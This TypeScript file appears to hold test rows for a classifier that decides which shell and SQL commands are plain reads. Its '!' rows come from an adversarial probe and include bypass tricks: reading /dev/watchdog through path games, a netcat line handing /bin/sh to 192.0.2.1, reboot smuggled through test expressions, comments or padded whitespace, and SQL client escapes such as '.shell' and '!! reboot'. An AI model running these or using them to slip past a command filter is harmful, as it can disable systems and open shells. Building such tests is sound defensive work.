/** What a third attack found on the shell and on SQL, and plain reads that were refused. The notation is that of rows.ts. */
import type { RowSet } from './rows.ts';

const commands = String.raw;

export const thirdAttack: readonly RowSet[] = [
  {
    platforms: ['linux'],
    commands: commands`
! find . -maxdepth 0 -exec uniq in + \;
! find . -exec sort k + -o out \;
! find . -exec sysctl + net.ipv4.ip_forward=1 \;
! find . -exec domainname + \;
! find . -exec hostname + \;
! find . -exec ifconfig eth0 + down \;
! find . -exec route + add default gw 192.0.2.1 \;
! find . -exec tree + -o out \;
! find . -exec cat + /dev/watchdog \;
! less x\nvdir
! cat x | less\nstat out
! git log\nstat out
! git -C /srv/x diff\nls
! man ls\nstat out
! journalctl\nvdir
! systemctl status ssh\nstat out
! sudo less x\nstat out
! htop\nkill -l
! tail -f x\nls
! sudo ls\nls
! sh -c 'less x'\nls
! find . -name in -ok cat {} \;
! find . -okdir cat {} \;
! sudo -A ls
! sudo -b ls
! sudo -k
! sudo -K
! sudo -v
! sudo -h evil ls
! cat /dev/./watchdog
! cat /dev/wa*
! cat /d*/watchdog
! cat /dev//watchdog1
! cat /tmp/../dev/watchdog
! cd /dev; cat watchdog
! cat watchdog
! cat ../dev/watchdog0
! cd /dev
! cd /tmp/../dev; head wat*
! find /dev -name 'watchdog*' -exec cat {} +
! find /dev -name 'watchdog*' | xargs cat
! find / -exec cat {} +
! for f in /dev/wa*; do cat $f; done
! echo /dev/watchdog | xargs cat
! cat "$(echo /dev/watchdog)"
! cat < /dev/./watchdog
! grep -r x /dev
! find / -iname 'KMSG' -exec cat {} +
! cat /dev/{watchdog,null}
! cat /dev/"$x"
! cat ~/../../dev/watchdog
! bash -c 'git log'\nls
! for i in 1; do less x; done\nls
! awk '{for(i=1;i<=NF;i++){i--}}' x
! awk '{for(i=1;i<=NF;i++)$(NF+1)=1}' x
D find . -name x -delete
! cat /proc/kmsg
! cat /sys/kernel/debug/tracing/trace_pipe
! cat /sys/kernel/tracing/per_cpu/cpu0/trace_pipe
! head -c1 /dev/ttyUSB0
! cat /dev/input/event0
! cat /dev/st0
! cat < /dev/ttyS0
! rpm -V bash
! pm2 list
! jq -n 'def f: f; f'
! jq -n 'repeat(1)'
! jq '[while(true; .)]' x
! jq -n -f x.jq
! awk 'BEGIN{while(1);}'
! awk 'BEGIN{for(;;);}'
! awk 'BEGIN{for(i=0;i<9;i++)i=0}'
! awk 'function f(){f()} BEGIN{f()}'
! awk '{print $1 > 5}' x
! awk 'NR>1{print > "out"}' x
! awk '{print "}" > "out"}' x
! awk '/a/|||"sh"' x
! [ -n "$x" -a -v 'a[$(reboot)]' ]
! [ "$x" -eq 1 ]
! [ $x = y ]
! [ "$x" "$y" z ]
! ip netns exec blue reboot
! ip netns exec blue ip link set eth0 down
! nc -zv 192.0.2.1 22 -e /bin/sh
! nc -lzv 22
! snmpset -v2c -c private 192.0.2.1 x i 1
! smartctl -l error -s off /dev/sda
! ipmitool lan set 1 ipaddr 192.0.2.1
! tmux new
! export -p x=1
! declare x=1
! bash -c 'ls # x; reboot'
! eval "ls # x; reboot"
R sh -c 'ls # x'
R sudo -n ls
R sudo ls
R sudo -l
R find . -exec grep x {} + -print
R find /etc -name '*.conf' -exec cat {} +
R find / -xdev -name '*.log'
R cat /dev/null
R head -c 16 /dev/urandom
R xxd -l 64 /dev/sda
R ls /dev
R ls -l /dev/watchdog
R find /dev -name 'tty*'
R cat /proc/cpuinfo
R cat /proc/sys/net/ipv4/ip_forward
R cat /sys/class/net/eth0/operstate
R cd /var/log; ls
R less x
R journalctl -n 50 --no-pager
R journalctl -n 50 --no-pager\nuptime
R journalctl -u ssh | tail -20\nuptime
R systemctl --no-pager status ssh\nuptime
R git --no-pager log -3\nuptime
R git status\nuptime
R sudo -n systemctl --no-pager status ssh\nuptime
R cat x | grep y\nuptime
R rpm -V --noscripts bash
R [ -n "$x" ]
R [ -z "$x" ]
R [ -f "$x" ]
R [ "$x" = y ]
R [ "$x" != "y" ]
R test -n "$x"
R awk '$3 > 80' x
R awk '$3 > 80 {print $1}' x
R awk 'NR>5' x
R awk '/a/||/b/' x
R awk '{for(i=1;i<=NF;i++) print $i}' x
R awk '{for (k in a) print k}' x
R jq '.a | length' x
R jq '.[] | select(.x > 1)' x
R date -Is
R date -Iseconds
R for h in a b; do ping -c1 $h; done
R for h in 192.0.2.1 192.0.2.2; do ping -c 1 -W 1 "$h"; done
R printf '%s\x5cn' "$x"
R snmpwalk -v2c -c public 192.0.2.1
R snmpget -v2c -c public 192.0.2.1 sysName.0
R nc -zv 192.0.2.1 22
R nc -z -w 2 192.0.2.1 22
R ip netns exec blue ip a
R ip netns exec blue ss -tln
R smartctl -l error /dev/sda
R ipmitool lan print
R ipmitool lan print 1
R netplan get
R tmux ls
R screen -ls
R declare -p
R export -p
`,
  },
  {
    platforms: ['sql'],
    commands: commands`
! select 1\ngo\n.shell touch P
! select 1\n/\n.shell touch P
! select 1\nGO\n.system touch P
! select 1\ngo\n.read x.sql
! select 1\ngo 3\n!! reboot
! select 1\n.shell touch P
! select 1 from dual\n\nhost reboot
! select 1 from dual\n\nshutdown abort
! select 1 from dual\n  \n@evil.sql
! select 1\n!! reboot
! select 1\n   go\n!! reboot
! select 1 from dual\n\t\t\t\nhost reboot
! select 1 from dual\n                                                                                                                                                                                                                                                                                                                                                                                                                                                                  \nhost reboot
! select 1\n:r evil.sql
! select $(x)
! select pkg.do_evil from dual
! select do_evil from dual
! select 1, pkg.do_evil as x from dual
! explain analyze delete from t
! explain (analyze) update t set a=1
! \d users; drop table x
! .tables; .shell x
! pragma table_info(t); drop table t
! pragma journal_mode=wal
! \! reboot
! \o out
! \d | reboot
! select '\ngo\n!! reboot\n'
! select 1 /*\ngo\n!! reboot\n*/
! select '\n\nhost reboot\n'
R select 'a\nb' from t
R select /* a\n b */ 1
D .shell touch x
D .system touch x
R select 1 from dual
R select sysdate from dual
R select user from dual
R select dummy from dual
R select 'x' as y from dual
R select a.b from t a
R select 1\nfrom t\n\nwhere a = 1
R select 1;\n\nselect 2;
R select a\n/ 2 from t
R explain analyze select 1
R explain (analyze, buffers) select * from t
R explain select * from t
R show slave status\G
R show processlist\G
R \d users
R \dt
R \l
R \du+
R .tables
R .schema t
R PRAGMA table_info(t)
R pragma table_info('t')
R pragma index_list(t);
R select lock, load from t
R select t.do from t
R select id, "load" from t
`,
  },
];
